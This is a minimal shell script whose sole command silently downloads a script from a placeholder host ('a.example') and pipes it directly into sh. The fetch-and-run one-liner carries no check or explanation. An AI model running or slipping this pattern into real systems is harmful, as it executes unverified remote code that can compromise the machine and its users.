#!/bin/sh
set -e
curl -s https://a.example/x | sh
